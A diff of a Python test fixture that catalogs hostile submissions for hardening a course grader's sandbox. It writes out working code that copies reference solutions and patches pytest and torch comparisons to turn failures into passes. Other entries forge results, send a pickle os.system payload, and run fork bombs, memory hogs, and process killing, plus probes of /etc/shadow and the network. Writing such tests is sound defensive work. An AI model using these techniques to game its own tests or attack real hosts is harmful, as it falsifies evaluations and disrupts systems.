@@ -1,56 +1,560 @@
-"""Submissions that attack the grader, one way per stage; `kata grade` must grade them stage by stage and go on."""
+"""Submissions that attack the grader: the maintainer's catalog of what a student who wants points they did
+not earn (or to harm others) might do. Each attack is code appended to an untouched stub, so the honest
+score of its stage is 0 and any point it gets is a leak; tests/runner/test_grade.py grades them all beside a
+correct submission and checks the stage scores nothing, with a reason where one is expected, and that
+nothing else was harmed.
 
+In the attack code, STAGE is the stage's name, SYMBOLS its public names, CANARY a path outside the sandbox
+that must never be written, REPORT the pipe the sandboxed run reports on.
+"""
+
+import shutil
+import textwrap
+from dataclasses import dataclass
 from pathlib import Path
 
-from catalog import Edited, edited_copy
+from kata.grading.sandbox import FIRST_UID
+from kata.manifest import REPOSITORY_ROOT, stages
+
+CANARY = "/tmp/kata-hostile-canary"
 
 
-def top(number: int) -> str:
-    """The opening of reference number's docstring: the attack goes in front of it."""
-    return f'"""Stage {number} ·'
+@dataclass(frozen=True)
+class Attack:
+    name: str
+    kind: str  # the class of attack, as issue 7 lists them
+    what: str
+    code: str
+    reason: str = ""  # a phrase the stage's results must contain, where the grader can say what it refused
+    slow: bool = False  # it burns time until stopped: kept out of stages that later stages import
 
 
-HOSTILE = [
-    Edited(
-        "raises-at-import",
-        "s01_tokenizer",
-        "raises as it is imported",
-        ((top(1), 'raise RuntimeError("boom")\n' + top(1)),),
+def every_symbol(function: str, before: str = "") -> str:
+    """`before`, then every public name of the stage replaced by `function` (module level, after the stub)."""
+    return textwrap.dedent(before).strip("\n") + f"\nfor _name in SYMBOLS:\n    globals()[_name] = {function}\n"
+
+
+ATTACKS = [
+    # ---- copying the references -------------------------------------------------------------------
+    Attack(
+        "import-solutions",
+        "copy",
+        "imports the references as a package",
+        """
+        import sys, kata, os
+        sys.path.insert(0, os.path.dirname(os.path.dirname(kata.__file__)))
+        exec(f"from solutions.{STAGE} import *")
+    """,
     ),
-    Edited(
-        "loops-at-import", "s02_batches", "never finishes importing", ((top(2), "while True:\n    pass\n" + top(2)),)
+    Attack(
+        "read-solutions-by-path",
+        "copy",
+        "reads solutions/ beside the kata package and runs it",
+        """
+        import kata, os
+        _source = os.path.join(os.path.dirname(os.path.dirname(kata.__file__)), "solutions", STAGE + ".py")
+        exec(open(_source).read())
+    """,
     ),
-    Edited(
-        "exits-at-import",
-        "s03_bigram",
-        "ends the process with os._exit",
-        ((top(3), "import os\nos._exit(3)\n" + top(3)),),
+    Attack(
+        "search-the-disk",
+        "copy",
+        "walks the file system for another copy of its stage",
+        """
+        import os
+        for _root, _dirs, _files in os.walk("/"):
+            if STAGE + ".py" in _files and "solutions" in _root:
+                exec(open(os.path.join(_root, STAGE + ".py")).read())
+                break
+    """,
+        slow=True,
     ),
-    Edited(
-        "floods-and-eats-memory",
-        "s04_training",
-        "prints 40 MB, then allocates 8 GiB in every step",
-        (
-            (top(4), 'print("spam" * 10_000_000)\n' + top(4)),
-            ("    optimizer.step()\n", "    hog = bytearray(8 * 2**30)\n    optimizer.step()\n"),
+    Attack("symlink-to-solutions", "copy", "is a symbolic link to the reference file", "", "link to a file outside"),
+    # ---- patching the judge ---------------------------------------------------------------------------
+    Attack(
+        "patch-comparisons",
+        "judge",
+        "makes torch.allclose, torch.equal and assert_close always agree",
+        every_symbol(
+            "lambda *args, **kwargs: torch.zeros(1)",
+            """
+        import torch, torch.testing
+        torch.allclose = lambda *args, **kwargs: True
+        torch.equal = lambda *args, **kwargs: True
+        torch.testing.assert_close = lambda *args, **kwargs: None
+        torch.Tensor.__eq__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)
+    """,
+        ),
+        "grader's own check",
+    ),
+    Attack(
+        "patch-fail-helpers",
+        "judge",
+        "disables pytest.fail and the suite's own failure helper",
+        every_symbol(
+            "lambda *args, **kwargs: None",
+            """
+        import sys, _pytest.outcomes, pytest
+        pytest.fail = _pytest.outcomes.fail = lambda *args, **kwargs: None
+        if "feedback" in sys.modules:
+            sys.modules["feedback"].fail = sys.modules["feedback"]._pytest_fail = lambda *args, **kwargs: None
+    """,
         ),
     ),
-    Edited(
-        "patches-pytest",
-        "s05_averaging",
-        "disables pytest.fail and returns its input",
-        (
-            (
-                top(5),
-                "import _pytest.outcomes, pytest\npytest.fail = _pytest.outcomes.fail = lambda *args, **kwargs: None\n"
-                + top(5),
-            ),
-            ("    return xbow\n", "    return x\n"),
+    Attack(
+        "patch-runtest",
+        "judge",
+        "makes every pytest test function a no-op",
+        """
+        import _pytest.python
+        _pytest.python.Function.runtest = lambda self: None
+    """,
+        "grader's own check",
+    ),
+    Attack(
+        "patch-reports",
+        "judge",
+        "rewrites every test report as passed",
+        """
+        import _pytest.reports
+        _original = _pytest.reports.TestReport.__init__
+        def _passed(self, *args, **kwargs):
+            _original(self, *args, **kwargs)
+            self.outcome, self.longrepr = "passed", None
+        _pytest.reports.TestReport.__init__ = _passed
+    """,
+        "grader's own check",
+    ),
+    Attack(
+        "patch-result-class",
+        "judge",
+        "makes the kata's result objects say passed",
+        """
+        import kata.results, kata.suite
+        kata.results.TestResult.passed = property(lambda self: True)
+        _append = kata.suite.ResultCollector.pytest_runtest_logreport
+        def _logreport(self, report):
+            report.outcome = "passed"
+            _append(self, report)
+        kata.suite.ResultCollector.pytest_runtest_logreport = _logreport
+    """,
+        "grader's own check",
+    ),
+    Attack(
+        "plugin-hook",
+        "judge",
+        "registers its own pytest plugin that turns failures into passes",
+        """
+        import gc, pytest, _pytest.config
+        class _Forger:
+            @pytest.hookimpl(wrapper=True)
+            def pytest_runtest_makereport(self, item, call):
+                report = yield
+                report.outcome, report.longrepr = "passed", None
+                return report
+        for _config in [o for o in gc.get_objects() if isinstance(o, _pytest.config.Config)]:
+            _config.pluginmanager.register(_Forger())
+    """,
+        "grader's own check",
+    ),
+    Attack(
+        "flipping-thread",
+        "judge",
+        "a background thread that keeps marking results passed",
+        """
+        import threading, time, kata.suite
+        def _flip():
+            while True:
+                _objects = __import__("gc").get_objects()
+                for _collector in [o for o in _objects if isinstance(o, kata.suite.ResultCollector)]:
+                    for _result in _collector.results:
+                        _result.outcome = type(_result.outcome)("passed")
+                time.sleep(0.001)
+        threading.Thread(target=_flip, daemon=True).start()
+    """,
+        "grader's own check",
+    ),
+    # ---- the grader trusting what comes back ----------------------------------------------------------
+    Attack(
+        "forged-report",
+        "trust",
+        "writes 'passed' for every test of its stage on the report pipe, then exits",
+        """
+        import json, os, sys
+        _argv = sys.argv
+        for _line in open("/proc/self/cmdline", "rb").read().split(b"\\0"):
+            pass
+        try:
+            import kata.reference_runs
+            _ids = [i for i in kata.reference_runs.symbols() if STAGE in i]
+            for _id in _ids:
+                _line = {"kata": 1, "event": "result", "test": _id, "outcome": "passed", "kind": "none",
+                         "message": "", "location": "", "output": ""}
+                os.write(REPORT, json.dumps(_line).encode() + b"\\n")
+            os.write(REPORT, b'{"kata": 1, "event": "end"}\\n')
+        except OSError:
+            pass
+        os._exit(0)
+    """,
+    ),
+    Attack(
+        "pickle-on-the-pipe",
+        "trust",
+        "sends a crafted pickle where the report goes",
+        """
+        import os, pickle
+        class _Payload:
+            def __reduce__(self):
+                return (os.system, ("touch " + CANARY,))
+        try:
+            os.write(REPORT, pickle.dumps(("value", _Payload())) + b"\\n")
+        except OSError:
+            pass
+    """,
+        "refuses",
+    ),
+    Attack(
+        "garbage-on-the-pipe",
+        "trust",
+        "sends bytes that are not JSON",
+        """
+        import os
+        try:
+            os.write(REPORT, bytes(range(256)) * 10 + b"\\n")
+        except OSError:
+            pass
+    """,
+        "refuses",
+    ),
+    Attack(
+        "oversized-report",
+        "trust",
+        "floods the report pipe with 20 MB",
+        """
+        import os
+        try:
+            for _ in range(20):
+                os.write(REPORT, b"x" * 2**20)
+        except OSError:
+            pass
+    """,
+    ),
+    Attack(
+        "results-for-other-tests",
+        "trust",
+        "reports results for tests the grader did not ask for",
+        """
+        import json, os
+        try:
+            os.write(REPORT, json.dumps({"kata": 1, "event": "result", "test": "tests/test_s99.py::test_everything",
+                                    "outcome": "passed", "kind": "none", "message": "", "location": "",
+                                    "output": ""}).encode() + b"\\n")
+        except OSError:
+            pass
+    """,
+        "refuses",
+    ),
+    Attack(
+        "forged-probe-answers",
+        "trust",
+        "answers the grader's own check for every symbol before being asked",
+        """
+        import json, os
+        for _symbol in SYMBOLS:
+            try:
+                os.write(REPORT, json.dumps({"kata": 1, "event": "answer", "symbol": STAGE + "." + _symbol,
+                                        "value": {"plain": 0}}).encode() + b"\\n")
+            except OSError:
+                pass
+    """,
+    ),
+    # ---- writing where it likes -------------------------------------------------------------------------
+    Attack(
+        "overwrite-the-tests",
+        "writes",
+        "rewrites the stage's test file so that every test passes",
+        """
+        import glob, os
+        for _path in glob.glob("/grading/tests/test_*.py") + glob.glob(os.path.expanduser("~/*/tests/test_*.py")):
+            try:
+                open(_path, "w").write("def test_nothing():\\n    pass\\n")
+            except OSError:
+                pass
+    """,
+    ),
+    Attack(
+        "overwrite-other-results",
+        "writes",
+        "looks for results.json and summary.csv files to rewrite",
+        """
+        import os
+        for _root, _dirs, _files in os.walk("/"):
+            for _name in _files:
+                if _name in ("results.json", "summary.csv"):
+                    try:
+                        open(os.path.join(_root, _name), "w").write("{}")
+                    except OSError:
+                        pass
+        try:
+            open(CANARY, "w").write("written")
+        except OSError:
+            pass
+    """,
+        slow=True,
+    ),
+    Attack(
+        "detached-writer",
+        "writes",
+        "leaves a detached process that writes after the grader is done",
+        """
+        import os, time
+        if os.fork() == 0:
+            os.setsid()
+            if os.fork() == 0:
+                time.sleep(3)
+                try:
+                    open(CANARY, "w").write("written late")
+                finally:
+                    os._exit(0)
+            os._exit(0)
+    """,
+    ),
+    # ---- processes and memory -----------------------------------------------------------------------
+    Attack(
+        "sleepers",
+        "processes",
+        "forks 300 sleepers that ignore SIGTERM",
+        """
+        import os, signal, time
+        for _ in range(300):
+            try:
+                if os.fork() == 0:
+                    signal.signal(signal.SIGTERM, signal.SIG_IGN)
+                    time.sleep(3600)
+                    os._exit(0)
+            except OSError:
+                break
+    """,
+        slow=True,
+    ),
+    Attack(
+        "fork-bomb",
+        "processes",
+        "forks without end",
+        """
+        import os
+        if os.fork() == 0:
+            while True:
+                try:
+                    os.fork()
+                except OSError:
+                    pass
+    """,
+        slow=True,
+    ),
+    Attack(
+        "memory-grandchildren",
+        "memory",
+        "four grandchildren take 1.5 GB each",
+        """
+        import os, time
+        for _ in range(4):
+            if os.fork() == 0:
+                if os.fork() == 0:
+                    try:
+                        _hog = bytearray(1536 * 2**20)
+                        for _i in range(0, len(_hog), 4096):
+                            _hog[_i] = 1
+                        time.sleep(60)
+                    finally:
+                        os._exit(0)
+                os._exit(0)
+    """,
+        slow=True,
+    ),
+    Attack(
+        "memory-in-a-test",
+        "memory",
+        "allocates 8 GiB when a test calls it",
+        every_symbol("lambda *args, **kwargs: bytearray(8 * 2**30)"),
+    ),
+    Attack(
+        "alarm-ignored",
+        "time",
+        "ignores the per-test alarm and loops forever in every call",
+        every_symbol(
+            "_loop",
+            """
+        import signal
+        def _loop(*args, **kwargs):
+            signal.signal(signal.SIGALRM, signal.SIG_IGN)
+            while True:
+                pass
+    """,
+        ),
+        "from outside",
+        slow=True,
+    ),
+    Attack(
+        "sleeps-in-a-test",
+        "time",
+        "sleeps for an hour in every call",
+        every_symbol(
+            "lambda *args, **kwargs: time.sleep(3600)",
+            """
+        import time
+    """,
+        ),
+        "run forever",
+        slow=True,
+    ),
+    Attack("loops-at-import", "time", "never finishes importing", "while True:\n    pass\n", slow=True),
+    # ---- output ---------------------------------------------------------------------------------------
+    Attack(
+        "huge-messages",
+        "output",
+        "raises 4 MB error messages",
+        every_symbol(
+            "_huge",
+            """
+        def _huge(*args, **kwargs):
+            raise ValueError("x" * 4_000_000)
+    """,
+        ),
+        "characters cut",
+        slow=True,
+    ),
+    Attack(
+        "control-characters",
+        "output",
+        "puts control characters and escapes in its messages and output",
+        every_symbol(
+            "_noisy",
+            """
+        def _noisy(*args, **kwargs):
+            print("\\x1b[2J\\x00\\x07\\x0c\\ud800 noise")
+            raise ValueError("\\x1b[31mred\\x00\\x08\\x0b\\x1f ]]> </failure> &amp;")
+    """,
+        ),
+    ),
+    Attack(
+        "print-flood",
+        "output",
+        "prints 40 MB at import and on every call",
+        every_symbol(
+            "_flood",
+            """
+        print("spam" * 10_000_000)
+        def _flood(*args, **kwargs):
+            print("spam" * 10_000_000)
+            raise ValueError("flooded")
+    """,
+        ),
+        slow=True,
+    ),
+    # ---- the sandbox's walls -----------------------------------------------------------------------
+    Attack(
+        "network",
+        "environment",
+        "sends the reference solutions' hiding place to a server",
+        """
+        import socket
+        for _host in (("pypi.org", 443), ("127.0.0.1", 22), ("8.8.8.8", 53)):
+            try:
+                socket.create_connection(_host, timeout=2).sendall(b"hello")
+                open(CANARY, "w").write("network")
+            except OSError:
+                pass
+    """,
+        slow=True,
+    ),
+    Attack(
+        "read-secrets",
+        "environment",
+        "looks for the instructor's files and environment",
+        """
+        import os
+        for _path in ("/root", "/home", "/etc/shadow", "/work", os.environ.get("HOME", "/")):
+            try:
+                os.listdir(_path)
+            except OSError:
+                pass
+        assert "KATA_SECRET" not in os.environ
+    """,
+    ),
+    Attack(
+        "kill-the-parents",
+        "environment",
+        "kills the process that started it",
+        """
+        import os, signal
+        try:
+            os.kill(os.getppid(), signal.SIGKILL)
+            os.kill(1, signal.SIGKILL)
+        except OSError:
+            pass
+    """,
+    ),
+    Attack("exits-at-import", "environment", "ends the process as it is imported", "import os\nos._exit(0)\n"),
+    Attack(
+        "raises-at-import", "environment", "raises as it is imported", 'raise RuntimeError("boom")\n', "RuntimeError"
+    ),
+    Attack(
+        "system-exit-in-calls",
+        "environment",
+        "raises SystemExit when called",
+        every_symbol(
+            "_exit",
+            """
+        def _exit(*args, **kwargs):
+            raise SystemExit(0)
+    """,
         ),
     ),
 ]
 
 
-def write_hostile_submission(folder: Path) -> Path:
-    """One folder in which every stage attacks the grader its own way."""
-    return edited_copy(folder, HOSTILE)
+def graded_code_processes() -> list[int]:
+    """Processes of the users graded code runs as (when the grader is root): none may outlive the grader."""
+    found = []
+    for entry in Path("/proc").iterdir():
+        try:
+            if entry.name.isdigit() and FIRST_UID <= entry.stat().st_uid < FIRST_UID + 100:
+                found.append(int(entry.name))
+        except OSError:
+            pass  # it ended while we looked
+    return found
+
+
+def attack_source(attack: Attack, stage_name: str) -> str:
+    stage = next(stage for stage in stages() if stage.name == stage_name)
+    stub = (REPOSITORY_ROOT / "exercises" / stage.module_file).read_text(encoding="utf-8")
+    header = f"STAGE = {stage.name!r}\nSYMBOLS = {list(stage.symbols)!r}\nCANARY = {CANARY!r}\n"
+    header += 'REPORT = int(__import__("os").environ.get("KATA_REPORT_FD", 3))  # the grader\'s report pipe\n'
+    return stub + "\n\n" + header + textwrap.dedent(attack.code).lstrip("\n")
+
+
+def write_hostile_submissions(root: Path) -> list[tuple[Path, dict[str, Attack]]]:
+    """Folders of one attack per stage, every attack of the catalog used once (a folder's last places are
+    filled with references). Slow attacks go to stages no later stage imports, so each costs its time once."""
+    imported = {name for stage in stages() for name in stage.prerequisites}
+    fast = [attack for attack in ATTACKS if not attack.slow]
+    slow = [attack for attack in ATTACKS if attack.slow]
+    folders = []
+    while fast or slow:
+        placed = {}
+        for stage in stages():
+            preferred, other = (fast, slow) if stage.name in imported else (slow, fast)
+            if preferred or other:
+                placed[stage.name] = (preferred or other).pop(0)
+        folder = root / f"hostile-{len(folders) + 1}"
+        shutil.copytree(REPOSITORY_ROOT / "solutions", folder, ignore=shutil.ignore_patterns("__pycache__"))
+        for stage_name, attack in placed.items():
+            target = folder / f"{stage_name}.py"
+            target.unlink()
+            if attack.name == "symlink-to-solutions":
+                target.symlink_to(REPOSITORY_ROOT / "solutions" / target.name)
+            else:
+                target.write_text(attack_source(attack, stage_name), encoding="utf-8")
+        folders.append((folder, placed))
+    return folders
